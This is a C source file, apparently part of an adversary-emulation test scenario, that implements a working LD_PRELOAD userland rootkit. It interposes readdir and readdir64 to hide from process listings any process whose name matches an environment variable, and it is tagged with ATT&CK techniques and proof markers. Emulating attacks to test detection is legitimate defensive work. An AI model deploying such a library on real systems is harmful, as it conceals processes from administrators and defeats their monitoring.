/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_rootkit.so: a userland rootkit in the style of libprocesshider,
 * loaded with LD_PRELOAD into `ps`. It exports readdir/readdir64 and reaches
 * the originals with dlsym(RTLD_NEXT, ...); while a /proc directory is
 * listed it drops every process whose comm is SCENARIO_HIDE (default
 * scn_victim, which the runner starts).
 * ATT&CK: T1014 Rootkit, by T1574.006 Dynamic Linker Hijacking.
 * Proof: NAME.ran on the first interposed call; NAME.done when a process
 * was hidden. */
#include <dirent.h>
#include <dlfcn.h>

#include "scn.h"

static int is_proc_dir(DIR *d)
{
	char link[64], target[256];
	ssize_t n;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", dirfd(d));
	n = readlink(link, target, sizeof(target) - 1);
	if (n <= 0)
		return 0;
	target[n] = 0;
	return !strcmp(target, "/proc");
}

static int hidden(DIR *d, const char *name)
{
	const char *hide = getenv("SCENARIO_HIDE") ? getenv("SCENARIO_HIDE") : "scn_victim";
	char path[300], comm[64];
	ssize_t n;
	int fd;

	if (name[0] < '0' || name[0] > '9' || !is_proc_dir(d))
		return 0;
	snprintf(path, sizeof(path), "/proc/%s/comm", name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	comm[n] = 0;
	comm[strcspn(comm, "\n")] = 0;
	return !strcmp(comm, hide);
}

#define INTERPOSE(fn, type)                                                   \
	type *fn(DIR *d)                                                      \
	{                                                                     \
		static type *(*orig)(DIR *);                                  \
		static int marked;                                            \
		type *e;                                                      \
                                                                              \
		if (!marked) {                                                \
			marked = 1;                                           \
			scn_mark("ran");                                      \
		}                                                             \
		if (!orig)                                                    \
			orig = (type * (*)(DIR *)) dlsym(RTLD_NEXT, #fn);     \
		while (orig && (e = orig(d)))                                 \
			if (hidden(d, e->d_name))                             \
				scn_mark("done");                             \
			else                                                  \
				return e;                                     \
		return NULL;                                                  \
	}

INTERPOSE(readdir, struct dirent)
INTERPOSE(readdir64, struct dirent64)
